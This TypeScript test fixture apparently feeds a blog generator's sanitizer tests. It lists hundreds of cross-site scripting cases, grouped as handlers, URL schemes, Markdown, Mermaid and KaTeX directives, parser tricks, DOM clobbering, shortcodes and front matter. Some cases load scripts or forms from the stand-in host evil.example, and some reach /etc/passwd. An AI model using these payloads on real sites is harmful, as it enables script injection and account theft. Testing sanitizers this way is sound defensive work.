/**
 * What an untrusted post may try, by class; each case is written for this file. A case does its harm by a dialog
 * (`alert`) or by a request to `evil.example`.
 */
export interface SecurityCase {
  readonly name: string
  /** Markdown. */
  readonly body: string
  /** Fields of the front matter instead of the usual ones. */
  readonly fields?: Readonly<Record<string, unknown>>
}

type Named = readonly [name: string, body: string]

const HANDLERS: readonly Named[] = [
  ['error on a picture', '<img src=nowhere.png onerror=alert(1)>'],
  ['error, mixed case', '<img src="nowhere.png" OnErRoR="alert(1)">'],
  ['error, slashes for blanks', '<img/src=nowhere.png/onerror=alert(1)>'],
  ['error, no quotes, entity', '<img src=nowhere.png onerror=&#97;lert(1)>'],
  ['error, form feed before the name', '<img src=nowhere.png\fonerror=alert(1)>'],
  ['error, vertical tab in the name', '<img src=nowhere.png on\verror=alert(1)>'],
  ['error, NUL in the name', '<img src=nowhere.png on\u0001error=alert(1)>'],
  ['error, quote closed early', '<img src="nowhere.png"" onerror=alert(1) ">'],
  ['error, backtick quotes', '<img src=`nowhere.png` onerror=`alert(1)`>'],
  ['load on a body', '<body onload=alert(1)>'],
  ['load on a drawing', '<svg onload=alert(1)></svg>'],
  ['pageshow on a body', '<body onpageshow="alert(1)">'],
  ['click on bold text', '<b onclick="alert(1)">press</b>'],
  ['click on a link', '<a href="#x" onclick="alert(1)">press</a>'],
  ['pointer on a paragraph', '<p onpointerenter=alert(1) onmouseover=alert(1)>over</p>'],
  ['focus by itself', '<input autofocus onfocus=alert(1)>'],
  ['focus with a tab index', '<p tabindex=0 autofocus onfocus=alert(1)>focus</p>'],
  ['toggle of details', '<details open ontoggle=alert(1)><summary>more</summary>text</details>'],
  [
    'beforetoggle of a popover',
    '<div popover id=pop onbeforetoggle=alert(1)>x</div><a popovertarget=pop>x</a>',
  ],
  ['start of an animation', '<p style="animation: x 1s" onanimationstart=alert(1)>x</p>'],
  ['end of a transition', '<p style="transition: all 1s" ontransitionend=alert(1)>x</p>'],
  ['play of a video', '<video src="nowhere.mp4" onloadstart="alert(1)" onerror="alert(1)"></video>'],
  ['error of a source', '<audio><source src="nowhere.mp3" onerror="alert(1)"></audio>'],
  ['wheel and scroll', '<div onwheel=alert(1) onscroll=alert(1) onscrollend=alert(1)>x</div>'],
  [
    'content visibility',
    '<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>',
  ],
  ['handler on a cell', '<table><tr><td onclick=alert(1)>press</td></tr></table>'],
  ['handler on a ruby text', '<ruby onclick=alert(1)>漢<rt onclick=alert(1)>ㄏㄢ</rt></ruby>'],
  ['handler in a closing tag', 'text</b onclick=alert(1)> more'],
]

const ADDRESSES: readonly Named[] = [
  ['scheme in a link', '<a href="javascript:alert(1)">press</a>'],
  ['scheme in capitals', '<a href="JAVASCRIPT:alert(1)">press</a>'],
  ['scheme, tab inside', '<a href="java\tscript:alert(1)">press</a>'],
  ['scheme, line end as entity', '<a href="java&#10;script:alert(1)">press</a>'],
  ['scheme, carriage return as entity', '<a href="java&#13;script:alert(1)">press</a>'],
  ['scheme, named tab', '<a href="java&Tab;script:alert(1)">press</a>'],
  ['scheme, named colon', '<a href="javascript&colon;alert(1)">press</a>'],
  ['scheme, hexadecimal letter', '<a href="&#x6A;avascript:alert(1)">press</a>'],
  ['scheme, padded decimal letter', '<a href="&#0000106avascript:alert(1)">press</a>'],
  ['scheme, blank in front', '<a href="  javascript:alert(1)">press</a>'],
  ['scheme, control character in front', '<a href="&#1;javascript:alert(1)">press</a>'],
  ['scheme, unit separator in front', '<a href="\u001fjavascript:alert(1)">press</a>'],
  ['scheme, zero width space in front', '<a href="\u200bjavascript:alert(1)">press</a>'],
  ['scheme, full width letters', '<a href="ｊavascript:alert(1)">press</a>'],
  ['scheme, comment as host', '<a href="javascript://%0aalert(1)">press</a>'],
  ['scheme, second colon', '<a href="feed:javascript:alert(1)">press</a>'],
  ['view-source', '<a href="view-source:javascript:alert(1)">press</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">press</a>'],
  ['livescript', '<a href="livescript:alert(1)">press</a>'],
  ['data page in a link', '<a href="data:text/html,<script>alert(1)</script>">press</a>'],
  ['data page, base64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>'],
  [
    'data drawing in a picture',
    '<img src="data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg/>">',
  ],
  ['data page in a picture', '<img src="data:text/html,<script>alert(1)</script>">'],
  ['scheme in a picture', '<img src="javascript:alert(1)">'],
  ['old picture addresses', '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'],
  [
    'scheme in a source set',
    '<picture><source srcset="javascript:alert(1) 1x"><img src="nowhere.png"></picture>',
  ],
  ['scheme in a video', '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video>'],
  ['scheme in a quotation', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
  [
    'scheme in a deletion',
    '<del cite="javascript:alert(1)">x</del><ins cite="vbscript:x">y</ins><q cite="data:x">z</q>',
  ],
  [
    'background of a table',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  ],
  ['ping of a link', '<a href="https://a.example/" ping="https://evil.example/ping">x</a>'],
  ['attribution of a link', '<a href="#x" attributionsrc="https://evil.example/">press</a>'],
  [
    'blob and filesystem',
    '<a href="blob:https://a.example/x">a</a> <a href="filesystem:https://a.example/x">b</a>',
  ],
  ['file', '<a href="file:///etc/passwd">press</a>'],
]

const MARKDOWN: readonly Named[] = [
  ['link', '[press](javascript:alert(1))'],
  ['link, entity', '[press](&#106;avascript:alert&#40;1&#41;)'],
  ['link, tab entity', '[press](jav&#x09;ascript:alert(1))'],
  ['link, angle brackets', '[press](<javascript:alert(1)>)'],
  ['link, escaped colon', '[press](javascript\\:alert(1))'],
  ['link, percent-encoded scheme', '[press](javascript%3Aalert(1))'],
  ['reference', '[press][r]\n\n[r]: javascript:alert(1)'],
  ['reference with a title', '[press][r]\n\n[r]: javascript:alert(1) "onclick=alert(1)"'],
  ['collapsed reference', '[javascript:alert(1)][]\n\n[javascript:alert(1)]: vbscript:alert(1)'],
  ['autolink', '<javascript:alert(1)>'],
  ['autolink, data', '<data:text/html,alert(1)>'],
  ['picture', '![x](javascript:alert(1))'],
  ['picture, data page', '![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['picture, data drawing', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['title breaks out', "[x](/a/ '\"><img src=n onerror=alert(1)>')"],
  ['title with a quote entity', '[x](/a/ "&quot; onmouseover=&quot;alert(1)")'],
  ['alt breaks out', '![" onerror="alert(1)](nowhere.png)'],
  ['alt holds a tag', '![<img src=n onerror=alert(1)>](nowhere.png)'],
  ['address breaks out', '[x](https://a.example/"onmouseover="alert(1))'],
  ['address breaks out, brackets', '[x](<https://a.example/"><img/src=n/onerror=alert(1)>>)'],
  ['language of code breaks out', '```html" onmouseover="alert(1)\nx\n```'],
  ['language of code holds a tag', '```<img/src=n/onerror=alert(1)>\nx\n```'],
  ['title of code breaks out', "```js title='\"><img src=n onerror=alert(1)>'\nx\n```"],
  ['lines of code', '```js {1,"><script>alert(1)</script>}\nx\n```'],
  ['code holds a script', '```html\n<script>alert(1)</script></code></pre><script>alert(2)</script>\n```'],
  ['code without a language', '    </code></pre><script>alert(1)</script>'],
  ['span of code', '`</code><script>alert(1)</script>`'],
  [
    'diagram holds a script',
    '```mermaid\ngraph TD\n  A["<img src=n onerror=alert(1)>"] --> B["<script>alert(1)</script>"]\n```',
  ],
  [
    'diagram with a click',
    '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:alert(1)"\n  click B call alert(1)\n```',
  ],
  [
    'diagram sets its own security',
    '```mermaid\n%%{init: {"securityLevel": "loose", "theme": "base"}}%%\ngraph TD\n  A["<img src=https://evil.example/x onerror=alert(1)>"]\n```',
  ],
  [
    'diagram with foreign styles',
    '```mermaid\n%%{init: {"themeCSS": "@import url(https://evil.example/x.css); * {background: url(https://evil.example/y)}"}}%%\ngraph TD\n  A --> B\n```',
  ],
  ['formula with a link', '$$\\href{javascript:alert(1)}{press}$$'],
  ['formula with a foreign picture', '$$\\includegraphics{https://evil.example/x.png}$$'],
  [
    'formula with HTML',
    '$$\\htmlData{onclick=alert(1)}{x} \\htmlStyle{background:url(//evil.example)}{y} \\htmlId{main}{z}$$',
  ],
  ['formula as text', '$$\\text{<img src=n onerror=alert(1)>} "><script>alert(1)</script>$$'],
  ['formula with a mistake', '$$\\nosuch{<img src=n onerror=alert(1)>}$$'],
  ['label of a note', 'x[^"><img src=n onerror=alert(1)>]\n\n[^"><img src=n onerror=alert(1)>]: note'],
  ['label of a note clobbers', 'x[^constructor] y[^__proto__]\n\n[^constructor]: a\n\n[^__proto__]: b'],
  ['heading with a tag', '## <img src=n onerror=alert(1)> heading'],
  ['heading with an id', '## heading {#x" onclick="alert(1)}'],
  ['heading with a list of attributes', '## heading {: #x onclick="alert(1)" style="x" }'],
  [
    'paragraph with a list of attributes',
    'text\n{: onclick="alert(1)" style="background:url(https://evil.example/)" .site-header }',
  ],
  [
    'picture with a list of attributes',
    '![x](nowhere.png){: onerror="alert(1)" srcset="https://evil.example/x 1x" }',
  ],
  ['table cell', '| a |\n| - |\n| <img src=n onerror=alert(1)> |'],
  ['task list', '- [x] <input onfocus=alert(1) autofocus>'],
  ['strike and emphasis', '~~<b onclick=alert(1)>press</b>~~ **<i onclick=alert(1)>press</i>**'],
  ['entities as tags', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=n onerror=alert(1)&#62;'],
  ['html over a blank line', '<div\n\nonclick=alert(1)>x</div>'],
  ['html closed by markdown', '<a href="\n\njavascript:alert(1)">press</a>'],
]

const DIAGRAMS: readonly Named[] = [
  ['picture as a label', 'graph TD\n  A["<img src=/nowhere.png onerror=alert(1)>"]'],
  ['picture in a shape', 'graph TD\n  A@{ img: "https:evil.example/x.png", label: "x" }'],
  [
    'styles',
    'graph TD\n  A --> B\n  style A fill:url(https:evil.example/x),cursor:url(/x)\n  classDef c background:url(/y);\n  class A c',
  ],
  [
    'settings in front',
    '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n  A["<b onclick=alert(1)>press</b>"]',
  ],
  [
    'settings',
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<b onclick=alert(1)>press</b>"]',
  ],
  [
    'settings on many lines',
    '%%{\n  init: {"htmlLabels": true, "themeCSS": "* { background: url(/x) }"}\n}%%\ngraph TD\n  A --> B',
  ],
  ['call on a click', 'graph TD; A-->B; click A call alert(1); click B href "javascript:alert(1)"'],
  [
    'message',
    'sequenceDiagram\n  A->>B: <img src=n onerror=alert(1)>\n  Note over A: <script>alert(1)</script>\n  link A: press @ javascript:alert(1)',
  ],
  [
    'classes',
    'classDiagram\n  class A["<img src=n onerror=alert(1)>"]\n  callback A "alert" "x"\n  link A "javascript:alert(1)"',
  ],
  [
    'entities',
    'graph TD\n  A["#60;img src=n onerror=alert(1)#62;"] --> B["&lt;img src=n onerror=alert(1)&gt;"]',
  ],
]

const ELEMENTS: readonly Named[] = [
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script, unclosed', '<script src=https://evil.example/x.js'],
  ['script, attribute in the end tag', '<script>alert(1)</script foo="bar">'],
  ['script, slash', '<script/x>alert(1)</script>'],
  ['module', '<script type=module>import "https://evil.example/x.js"</script>'],
  ['import map', '<script type=importmap>{"imports":{"a":"https://evil.example/"}}</script>'],
  [
    'speculation rules',
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  ],
  ['style', '<style>body{background:url(https://evil.example/x)}</style>'],
  ['imported style', '<style>@import "https://evil.example/x.css";</style>'],
  ['style attribute', '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>'],
  ['link to a stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  [
    'prefetch',
    '<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=//evil.example/x.png>',
  ],
  ['base', '<base href="https://evil.example/">\n\n[x](relative.png)'],
  ['refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['refresh to a scheme', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['policy', '<meta http-equiv="Content-Security-Policy" content="script-src none">'],
  ['frame', '<iframe src="https://evil.example/"></iframe>'],
  ['frame with a document', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['frame with a scheme', '<iframe src="javascript:alert(1)"></iframe>'],
  ['frame with a data page', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  [
    'frame, title breaks out',
    `<iframe src="https://www.youtube.com/embed/abcdefghijk" title='"><img src=n onerror=alert(1)>'></iframe>`,
  ],
  [
    'frame, like a known host',
    '<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  ],
  [
    'frame, user in the address',
    '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  ],
  [
    'frame, known host in the path',
    '<iframe src="https://evil.example/www.youtube.com/embed/abcdefghijk"></iframe>',
  ],
  [
    'fenced frame and portal',
    '<fencedframe src="https://evil.example/"></fencedframe><portal src="https://evil.example/"></portal>',
  ],
  ['frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  [
    'object from elsewhere',
    '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  ],
  ['embed', '<embed src="https://evil.example/x.swf" allowscriptaccess=always>'],
  ['applet', '<applet code="https://evil.example/X.class"></applet>'],
  ['form', '<form action="https://evil.example/"><input name=q><button>press</button></form>'],
  ['form action of a button', '<button formaction="javascript:alert(1)">press</button>'],
  [
    'submitting picture',
    '<input type=image src="https://evil.example/x.png" formaction="https://evil.example/">',
  ],
  [
    'form of another element',
    '<input form=x type=submit formaction=https://evil.example/ value=press><form id=x></form>',
  ],
  ['list of keys', '<keygen autofocus onfocus=alert(1)><isindex type=image src=n onerror=alert(1)>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee><bgsound src="javascript:alert(1)">'],
  ['custom element', '<x-y onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>press</x-y>'],
  [
    'shadow root',
    '<div><template shadowrootmode=open><script>alert(1)</script><img src=n onerror=alert(1)></template></div>',
  ],
  ['dialog', '<dialog open><form method=dialog><button onclick=alert(1)>press</button></form></dialog>'],
  ['track', '<video src=n.mp4><track src="https://evil.example/x.vtt" default></video>'],
  [
    'foreign picture map',
    '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=nowhere.png>',
  ],
  ['XML', '<?xml-stylesheet href="javascript:alert(1)"?><xml><script>alert(1)</script></xml>'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['declaration', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>'],
]

const PARSERS: readonly Named[] = [
  ['drawing with a script', '<svg><script>alert(1)</script></svg>'],
  ['drawing with a link', '<svg><a xlink:href="javascript:alert(1)"><text y=20>press</text></a></svg>'],
  [
    'drawing that animates a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>press</text></a></svg>',
  ],
  ['drawing that sets a handler', '<svg><set attributeName=onmouseover to=alert(1) /></svg>'],
  ['drawing that uses another', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  [
    'drawing with foreign HTML',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  ['drawing with a style', '<svg><style><img src=n onerror=alert(1)></style></svg>'],
  ['drawing with a title', '<svg><title><img src=n onerror=alert(1)></title></svg>'],
  ['drawing with a description', '<svg><desc><p><style></desc></svg><img src=n onerror=alert(1)></style>'],
  ['formula with a picture', '<math><mtext><img src=n onerror=alert(1)></mtext></math>'],
  ['formula with a link', '<math href="javascript:alert(1)"><mi>press</mi></math>'],
  [
    'formula with an action',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">press</maction></math>',
  ],
  [
    'formula, glyph and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=n onerror=alert(1)&gt;"></table></mtext></math>',
  ],
  [
    'formula, annotated HTML',
    '<math><annotation-xml encoding="text/html"><img src=n onerror=alert(1)></annotation-xml></math>',
  ],
  ['formula in a drawing', '<svg></p><math><mi></svg><img src=n onerror=alert(1)></mi></math>'],
  [
    'form in a form in a formula',
    '<form><math><mtext></form><form><mglyph><style></math><img src=n onerror=alert(1)>',
  ],
  ['no script', '<noscript><p title="</noscript><img src=n onerror=alert(1)>"></noscript>'],
  ['template', '<template><img src=n onerror=alert(1)></template>'],
  ['text area', '<textarea></textarea><img src=n onerror=alert(1)></textarea>'],
  ['text area in an attribute', '<textarea><p title="</textarea><img src=n onerror=alert(1)>"></textarea>'],
  ['title element', '<title><p title="</title><img src=n onerror=alert(1)>"></title>'],
  ['xmp', '<xmp><p title="</xmp><img src=n onerror=alert(1)>"></xmp>'],
  ['no frames', '<noframes><p title="</noframes><img src=n onerror=alert(1)>"></noframes>'],
  ['no embed', '<noembed><img title="</noembed><img src=n onerror=alert(1)>"></noembed>'],
  ['plain text', '<plaintext><img src=n onerror=alert(1)>'],
  ['listing', '<listing>&lt;img src=n onerror=alert(1)&gt;</listing>'],
  ['comment closed early', '<!--><img src=n onerror=alert(1)>-->'],
  ['comment closed by a bang', '<!--x--!><img src=n onerror=alert(1)>-->'],
  ['comment in an attribute', '<p title="--><img src=n onerror=alert(1)>">x</p>'],
  ['bogus comment', '</ x><img src=n onerror=alert(1)><?x ><img src=n onerror=alert(1)>'],
  ['conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['select', '<select><option><style></option></select><img src=n onerror=alert(1)></style>'],
  ['table foster parent', '<table><td><a><table></a><img src=n onerror=alert(1)></table>'],
  ['nested links', '<a href="/x/"><table><a href="javascript:alert(1)">press</a></table></a>'],
  ['heading in a button', '<button><p><h1><button onclick=alert(1)>press</button></h1>'],
  ['unclosed attribute', '<p title="x <img src=n onerror=alert(1)>'],
  ['less-than before a name', '<<script>alert(1)//<</script>'],
  ['unclosed tag at the end', 'text <img src=n onerror=alert(1) '],
  ['quote inside a tag', '<p """><script>alert(1)</script>">x</p>'],
]

const CLOBBERING: readonly Named[] = [
  ['id of a part of the page', '<div id="theme-main" class="site-header main">x</div>'],
  ['id of a property', '<a id="body"></a><a id=cookie></a><img name=getElementById src=nowhere.png>'],
  ['form with names', '<form id=document name=head><input name=append><input id=documentElement></form>'],
  [
    'two links, one id',
    '<a id=digest href="javascript:alert(1)"></a><a id=digest name=url href="javascript:alert(1)"></a>',
  ],
  ['data of an embed', '<a data-embed="javascript:alert(1)" href="#x">press</a>'],
  [
    'data of an embed elsewhere',
    '<a class="embed-card" data-embed="https://evil.example/" href="#x">press</a>',
  ],
  [
    'data of the code button',
    '<div class="code" data-copy="<img src=n onerror=alert(1)>"><pre><code>x</code></pre></div>',
  ],
  [
    'data of the search',
    '<div data-search="https://evil.example/x.json"><form><input></form><p data-search-status></p><ol data-search-results></ol></div>',
  ],
  [
    'library of diagrams',
    '<script data-library="https://evil.example/x.js"></script>\n\n```mermaid\ngraph TD\n  A --> B\n```',
  ],
  ['actions', '<button data-action="copy" data-done="<img src=n onerror=alert(1)>">press</button>'],
  ['base target and rel', '<a href="https://a.example/" target="_blank" rel="opener">x</a>'],
  ['contents', '<nav class="contents"><a href="#%E0%A4%A">press</a><a href="#x">press</a></nav>'],
]

const SHORTCODES: readonly Named[] = [
  ['id with a quote', '{{< youtube "x\\" onload=alert(1)" >}}'],
  ['id with a tag', "{{< youtube '\"><img src=n onerror=alert(1)>' >}}"],
  ['id with a path', '{{< youtube "../../evil.example/" >}}'],
  ['id as an address', '{{< youtube "https://evil.example/?" >}}'],
  ['title with a tag', '{{< youtube id="abcdefghijk" title=\'"><img src=n onerror=alert(1)>\' >}}'],
  ['vimeo with a scheme', '{{< vimeo "javascript:alert(1)" >}}'],
  [
    'figure with a scheme',
    '{{< figure src="javascript:alert(1)" link="javascript:alert(1)" attrlink="javascript:alert(1)" attr="press" caption="x" >}}',
  ],
  [
    'figure with a quote',
    '{{< figure src="nowhere.png" alt=\'" onerror="alert(1)\' class=\'" onclick="alert(1)\' >}}',
  ],
  [
    'figure with Markdown',
    '{{< figure src="nowhere.png" caption="<script>alert(1)</script>" title="<img src=n onerror=alert(1)>" >}}',
  ],
  [
    'figure with a size',
    `{{< figure src="nowhere.png" width='1" onclick="alert(1)' height='1"><script>alert(1)</script>' >}}`,
  ],
  ['include of Chirpy', `{% include embed/youtube.html id='"><script>alert(1)</script>' %}`],
  ['unknown with a tag', '{{< nosuch "<img src=n onerror=alert(1)>" >}}'],
  ['escaped with a tag', '{{</* x <img src=n onerror=alert(1)> */>}}'],
  ['reference with a scheme', '[press]({{< ref "javascript:alert(1)" >}})'],
  [
    'code with a title',
    '{{< highlight js "title=<img src=n onerror=alert(1)>" >}}</code></pre><script>alert(1)</script>{{< /highlight >}}',
  ],
  [
    'details with a tag',
    '{{< details "<img src=n onerror=alert(1)>" >}}<img src=n onerror=alert(1)>{{< /details >}}',
  ],
  ['button with a scheme', '{{< button href="javascript:alert(1)" >}}press{{< /button >}}'],
  ['button with a quote', `{{< button href='/" onclick="alert(1)' >}}press{{< /button >}}`],
  [
    'gallery with a script',
    '{{< gallery >}}<script>alert(1)</script><img src=n onerror=alert(1)>{{< /gallery >}}',
  ],
  ['formula between tags', '{{< katex >}}\\href{javascript:alert(1)}{press}{{< /katex >}}'],
  [
    'drawing between tags',
    '{{< mermaid >}}\ngraph TD\n  A["<img src=n onerror=alert(1)>"]\n{{< /mermaid >}}',
  ],
  [
    'language of a reference',
    '[press]({{< ref path="case-1.md" lang="x\\" onclick=\\"alert(1)" >}}) [press]({{< ref path="javascript:alert(1)" lang="en" >}})',
  ],
  ['Markdown in HTML', '<div markdown="1" onclick="alert(1)">\n[press](javascript:alert(1))\n</div>'],
  [
    'comment of kramdown',
    '{::comment}<script>{:/comment}<img src=n onerror=alert(1)>{::nomarkdown}<script>alert(1)</script>{:/}',
  ],
  ['block around all', '```markdown\n<script>alert(1)</script>\n\n[press](javascript:alert(1))\n```'],
  ['tag put together', '<scr【1†source】ipt>alert(1)</scr【1†source】ipt>'],
  ['thoughts with a script', '<think><script>alert(1)</script></think>\n\n<img src=n onerror=alert(1)>'],
  ['in an attribute', '<p title="{{< youtube abcdefghijk >}}">x</p>'],
  ['Liquid output', '{{ site.title | append: "<script>alert(1)</script>" }}'],
]

const TAG = '"><img src=n onerror=alert(1)>'

const FIELDS: readonly (readonly [name: string, fields: Readonly<Record<string, unknown>>])[] = [
  ['title', { title: `A ${TAG}</title><script>alert(1)</script>` }],
  ['title with a formula and code', { title: '$$x$$ `</code><script>alert(1)</script>` {{constructor}}' }],
  ['title ends the data for machines', { title: 'A </script><script>alert(1)</script> <!--<script>' }],
  ['title with line separators', { title: 'A \u2028 alert(1) \u2029 B' }],
  ['tagline', { tagline: `B ${TAG} [press](javascript:alert(1)) <b onclick=alert(1)>press</b>` }],
  ['summary', { ai_summary: `C ${TAG} [press](javascript:alert(1)) ![x](javascript:alert(1))` }],
  ['description', { description: `D ${TAG}` }],
  [
    'tags',
    { tags: [TAG, '<script>alert(1)</script>', "' onclick='alert(1)", '../../evil', 'javascript:alert(1)'] },
  ],
  [
    'categories and models',
    { categories: [TAG], model: `m${TAG}`, series: ['</script><script>alert(1)</script>'] },
  ],
  ['authors', { authors: [TAG, '</script><script>alert(1)</script>'] }],
  ['image with a scheme', { image: 'javascript:alert(1)' }],
  ['image with a data drawing', { image: 'data:image/svg+xml,<svg onload=alert(1)>' }],
  ['image that breaks out', { image: { path: `/x.png${TAG}`, alt: TAG, caption: TAG } }],
  ['source with a scheme', { source_url: 'javascript:alert(1)', source_name: 'press' }],
  ['source that breaks out', { source_url: `https://a.example/${TAG}`, source_name: TAG }],
  [
    'sources',
    {
      sources: [
        { title: TAG, url: 'javascript:alert(1)' },
        { title: TAG, url: 'https://b.example/"onclick=alert(1)' },
      ],
    },
  ],
  ['slug', { slug: '"><script>alert(1)</script>' }],
  ['aliases', { aliases: ['/old"><script>alert(1)</script>/', 'javascript:alert(1)'] }],
  ['notice', { ai: { generated: true, model: TAG, reviewedBy: TAG } }],
  ['own fields', { note: TAG, subtitle: TAG, cover: { image: TAG } }],
  ['layout', { layout: '../../../etc/passwd' }],
  ['prototype', { constructor: { prototype: { x: TAG } }, toString: TAG }],
]

const named = (area: string, cases: readonly Named[]): SecurityCase[] =>
  cases.map(([name, body]) => ({ name: `${area}: ${name}`, body }))

export const SECURITY_CASES: readonly SecurityCase[] = [
  ...named('handler', HANDLERS),
  ...named('address', ADDRESSES),
  ...named('Markdown', MARKDOWN),
  ...named(
    'diagram',
    DIAGRAMS.map(([name, text]) => [name, `\`\`\`mermaid\n${text}\n\`\`\``] as const),
  ),
  ...named('element', ELEMENTS),
  ...named('parser', PARSERS),
  ...named('clobbering', CLOBBERING),
  ...named('shortcode', SHORTCODES),
  ...FIELDS.map(([name, fields]) => ({ name: `front matter: ${name}`, body: 'Text.', fields })),
]

/** The address of a case's post. */
export const caseAddress = (index: number): string => `posts/case-${index + 1}/`

/** One site in which each case is a post of its own, and the next to each other's neighbour. */
export function securitySite(): Readonly<Record<string, string>> {
  const posts = SECURITY_CASES.map(({ name, body, fields }, i) => {
    const matter = { title: name, date: '2026-01-05', tags: ['case'], ...fields }
    const yaml = Object.entries(matter).map(([key, value]) => `${key}: ${JSON.stringify(value)}`)
    return [`content/posts/case-${i + 1}.md`, `---\n${yaml.join('\n')}\n---\n${body}\n`]
  })
  return Object.fromEntries([
    ['digest.config.yaml', 'title: Cases\npagination: 50\nfeeds: { limit: 400 }\nlanguages: [en, zh-TW]\n'],
    ...posts,
  ])
}
